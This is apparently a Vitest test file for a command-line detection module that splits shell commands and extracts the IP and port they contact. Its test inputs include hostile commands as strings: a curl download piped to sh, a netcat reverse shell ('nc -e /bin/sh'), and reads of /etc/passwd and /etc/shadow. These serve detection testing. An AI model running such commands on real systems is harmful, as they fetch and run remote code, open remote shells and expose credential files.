import { describe, expect, it } from 'vitest';
import { networkTarget, splitCommandLine } from './detection.ts';

describe('splitCommandLine', () => {
  it.each([
    ['plain words', 'cat /etc/passwd', ['cat', '/etc/passwd']],
    ['runs of whitespace', '  ls \t -la   /tmp  ', ['ls', '-la', '/tmp']],
    ['double quotes', 'bash -c "id; whoami"', ['bash', '-c', 'id; whoami']],
    ['single quotes', "sh -c 'curl http://10.0.0.5/x | sh'", ['sh', '-c', 'curl http://10.0.0.5/x | sh']],
    ['each kind inside the other', `echo "it's" '"quoted"'`, ['echo', "it's", '"quoted"']],
    ['empty quotes', `printf "" ''`, ['printf', '', '']],
    ['an empty line', '', []],
    ['only spaces', '   ', []],
  ])('%s', (_name, commandLine, expected) => {
    expect(splitCommandLine(commandLine)).toEqual(expected);
  });
});

describe('networkTarget', () => {
  it.each([
    ['an http URL on the default port', 'curl http://10.0.0.5/payload.sh', { ip: '10.0.0.5', port: 80 }],
    ['an https URL on the default port', 'wget https://192.168.1.20/a', { ip: '192.168.1.20', port: 443 }],
    ['an ftp URL on the default port', 'curl ftp://172.16.0.9/file', { ip: '172.16.0.9', port: 21 }],
    ['an http URL with a port', 'curl -s http://10.0.0.5:8080/x', { ip: '10.0.0.5', port: 8080 }],
    ['an https URL with a port', 'curl https://10.1.2.3:8443', { ip: '10.1.2.3', port: 8443 }],
    ['netcat with ip and port', 'nc 10.0.0.5 4444', { ip: '10.0.0.5', port: 4444 }],
    ['netcat with options', 'nc -e /bin/sh 203.0.113.7 9001', { ip: '203.0.113.7', port: 9001 }],
    ['an ip:port pair', 'socat - TCP:198.51.100.4:53', { ip: '198.51.100.4', port: 53 }],
    ['the first of two targets', 'curl http://10.0.0.1/a; nc 10.0.0.2 4444', { ip: '10.0.0.1', port: 80 }],
  ])('finds %s', (_name, commandLine, expected) => {
    expect(networkTarget(commandLine)).toEqual(expected);
  });

  it.each([
    ['no network at all', 'cat /etc/shadow'],
    ['an empty line', ''],
    ['an ip without a port', 'ping 10.0.0.5'],
    ['a host name instead of an ip', 'curl http://example.com/x'],
    ['a version number', 'apt-get install openssl=1.1.1'],
  ])('finds nothing in %s', (_name, commandLine) => {
    expect(networkTarget(commandLine)).toBeNull();
  });
});
